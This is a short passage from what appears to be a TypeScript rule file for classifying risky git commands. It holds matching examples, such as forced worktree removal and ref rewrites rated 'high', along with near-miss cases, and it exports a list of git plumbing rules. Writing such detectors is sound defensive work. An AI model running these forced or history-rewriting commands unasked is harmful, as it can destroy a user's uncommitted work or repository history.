  examples: { match: ['git replace 4f2a1b3 9c8d7e6', 'git symbolic-ref HEAD refs/heads/other', { cmd: 'git worktree remove --force ../api-hotfix', exactly: 'high' }], nearMiss: ['git replace -l', 'git symbolic-ref HEAD', 'git worktree remove ../api-hotfix', 'git worktree add ../api-hotfix hotfix/1.2'] },
};

/** The rules git.ts adds to the git pack. */
export const gitPlumbingRules: readonly Rule[] = [alias, configCommand, hooksPath, configSafety, readTreeReset, checkoutIndexForce, refRewrites];
